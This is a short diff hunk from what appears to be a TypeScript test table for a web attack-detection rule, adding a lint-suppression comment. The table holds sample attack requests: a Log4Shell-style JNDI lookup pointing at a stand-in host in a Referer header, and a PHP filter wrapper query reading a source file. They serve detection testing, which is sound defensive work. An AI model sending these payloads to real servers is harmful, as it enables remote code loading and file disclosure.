@@ -162,6 +162,7 @@ const ATTACKS: readonly (readonly [rule: string, what: string, traffic: TrafficM
   [
     'certain-payload',
     'a look-up in a header',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send.
     () => [['GET /public', { referer: '${jndi:ldap://e.example/a}' }]],
   ],
   ['certain-payload', 'a wrapper of PHP', () => [['GET /?file=php://filter/resource=index']]],
